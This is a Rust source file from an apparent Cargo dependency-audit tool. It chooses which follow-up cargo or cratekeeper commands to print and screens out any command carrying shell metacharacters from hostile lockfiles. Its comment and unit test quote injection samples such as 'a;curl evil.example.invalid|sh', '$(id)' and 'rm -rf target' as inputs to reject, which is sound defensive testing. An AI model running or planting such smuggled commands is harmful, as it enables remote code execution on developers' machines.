//! What to do next, as commands that can be copied.

use cratekeeper_model::{
    AdvisoryDatabase, CheckOutcome, Finding, InspectOutcome, Known, Outcome, PackageSource,
};
use cratekeeper_model::{PackageStatus, Severity};

use super::page::{Page, Tone};
use super::{Detail, View};
use crate::UNRESOLVED_DEPENDENCY;
use crate::text::count;

/// Commands shown at most: a longer list would be no answer.
const COMMANDS: usize = 3;

/// Seconds after which fetching advisories is suggested: a week, in which RustSec publishes several.
const STALE: u64 = 7 * 86_400;

/// A command and what it is good for.
type Step = (String, String);

pub(super) fn after_check(page: &mut Page, view: &View<'_>, outcome: &CheckOutcome) {
    let mut packages: Vec<&Outcome> = outcome.packages.iter().collect();
    packages.sort_by_key(|it| std::cmp::Reverse((it.case.worst(), it.case.score)));
    let serious: Vec<(&Outcome, &Finding)> = packages.iter().flat_map(|it| serious(it)).collect();

    let mut steps = about_findings(&serious, &outcome.advisories);
    if let Some(step) = about_unresolved(outcome) {
        steps.insert(steps.len().min(1), step);
    }
    steps.extend(serious.first().and_then(|(package, _)| inspect(package, "shows everything found in it")));
    let unchecked = outcome.packages.iter().find(|it| it.status == PackageStatus::CouldNotCheck);
    steps.extend(unchecked.and_then(|it| inspect(it, "tries this package alone")));
    let harmless = outcome.findings(Severity::Info);
    if harmless > 0 && view.detail == Detail::Normal {
        steps.push(("cratekeeper check -v".to_owned(), format!("lists {}", count(harmless, "info finding"))));
    }
    print(page, steps, "nothing to do until the lockfile or the advisories change");
}

pub(super) fn after_inspect(page: &mut Page, outcome: &InspectOutcome) {
    let package = &outcome.outcome;
    let serious: Vec<(&Outcome, &Finding)> = serious(package).collect();
    let mut steps = about_findings(&serious, &outcome.advisories);
    if outcome.facts.is_some()
        && let Some((command, _)) = inspect(package, "")
    {
        steps.push((format!("{command} --facts --format json"), "gives everything that was seen".to_owned()));
    }
    print(page, steps, "nothing to do");
}

/// A lockfile that fits is written by cargo, but not while a name is probably mistyped.
fn about_unresolved(outcome: &CheckOutcome) -> Option<Step> {
    let dependencies = outcome.unresolved_dependencies();
    let explanation = format!("cratekeeper explain {}", UNRESOLVED_DEPENDENCY.id);
    match dependencies {
        [] => None,
        _ if dependencies.iter().any(|it| it.severity().is_some()) => {
            Some((explanation, "says why a dependency has to be in the lockfile".to_owned()))
        }
        _ => Some(("cargo update --workspace".to_owned(), "brings the lockfile up to date".to_owned())),
    }
}

/// First something about the worst finding, then what others propose.
fn about_findings(serious: &[(&Outcome, &Finding)], advisories: &Known<AdvisoryDatabase>) -> Vec<Step> {
    let worst = serious.first().map(|(_, finding)| *finding);
    let mut steps = Vec::new();
    steps.extend(worst.and_then(|finding| remedy(finding).or_else(|| explain(finding))));
    let other = serious.iter().find_map(|(_, finding)| remedy(finding));
    steps.extend(other.filter(|it| !steps.contains(it)));
    steps.extend(update(advisories));
    let explained = worst.and_then(explain);
    steps.extend(explained.filter(|it| !steps.contains(it)));
    steps
}

fn serious(package: &Outcome) -> impl Iterator<Item = (&Outcome, &Finding)> {
    let findings = package.case.findings.iter().filter(|it| it.severity > Severity::Info);
    findings.map(move |finding| (package, finding))
}

fn print(page: &mut Page, mut steps: Vec<Step>, otherwise: &str) {
    page.blank();
    if steps.is_empty() {
        page.hanging(0, &[(Tone::Strong, "next: ")], otherwise);
        return;
    }
    steps.truncate(COMMANDS);
    let width = steps.iter().map(|(command, _)| command.len()).max().unwrap_or_default();
    page.line(0, &[(Tone::Strong, "next:")]);
    for (command, what) in &steps {
        let command = format!("{command:<width$}");
        // As a shell's comment, so that a whole line can be copied.
        page.line(2, &[(Tone::Notice, &command), (Tone::Dim, "  # "), (Tone::Dim, what)]);
    }
}

/// The command that a finding's help proposes.
fn remedy(finding: &Finding) -> Option<Step> {
    let help = finding.help.as_deref()?;
    let quoted = help.split('`').skip(1).step_by(2);
    let command = quoted.chain([help]).find(|it| is_command(it))?;
    Some((command.to_owned(), format!("what {} proposes", finding.rule)))
}

/// Whether text is a command of cargo or our own that is safe to copy into a shell.
///
/// Names in it come from lockfiles, and `a;curl …|sh` is a fine name for a package in a hostile one.
fn is_command(text: &str) -> bool {
    let ours = text.starts_with("cargo ") || text.starts_with("cratekeeper ");
    ours && text.chars().all(|it| it.is_ascii_alphanumeric() || " -_./@:=+#".contains(it))
        && !text.ends_with('.')
}

fn update(advisories: &Known<AdvisoryDatabase>) -> Option<Step> {
    let why = match advisories {
        Known::Unknown(_) => "fetches the advisory database",
        Known::Known(database) if database.age.is_none_or(|age| age > STALE) => {
            "brings the advisories up to date"
        }
        Known::Known(_) => return None,
    };
    Some(("cratekeeper advisories update".to_owned(), why.to_owned()))
}

fn explain(finding: &Finding) -> Option<Step> {
    let command = format!("cratekeeper explain {}", finding.rule);
    is_command(&command).then(|| (command, "says what the rule looks for and why".to_owned()))
}

fn inspect(outcome: &Outcome, what: &str) -> Option<Step> {
    let package = &outcome.package;
    // Others are given to `inspect` by a path that is not known here.
    if !matches!(package.source, PackageSource::Registry(_)) {
        return None;
    }
    let command = format!("cratekeeper inspect {}@{}", package.name, package.version);
    is_command(&command).then(|| (command, what.to_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_plain_commands_are_worth_copying() {
        for (text, expected) in [
            ("cargo update -p smallvec --precise 1.6.1", true),
            ("cargo update -p https://r.example.invalid/i#a@1.0.0", true),
            ("cratekeeper explain build-script", true),
            ("cargo update -p a;curl evil.example.invalid|sh", false),
            ("cargo update -p $(id)", false),
            ("cargo update, then build again", false),
            ("cargo update.", false),
            ("rm -rf target", false),
        ] {
            assert_eq!(is_command(text), expected, "{text}");
        }
    }

    #[test]
    fn a_remedy_is_found_inside_a_sentence() {
        let finding = |help: &str| Finding {
            rule: "vulnerable-version".to_owned(),
            severity: Severity::High,
            confidence: cratekeeper_model::Confidence::High,
            message: String::new(),
            evidence: Vec::new(),
            help: Some(help.to_owned()),
            advisory: None,
            reachability: None,
            techniques: Vec::new(),
        };
        let remedy = |help| remedy(&finding(help)).map(|(command, _)| command);
        assert_eq!(remedy("Set `a` and run `cargo update -p a`.").as_deref(), Some("cargo update -p a"));
        assert_eq!(remedy("cargo tree -i a@1.0.0").as_deref(), Some("cargo tree -i a@1.0.0"));
        assert_eq!(remedy("There is no fix yet."), None);
    }
}
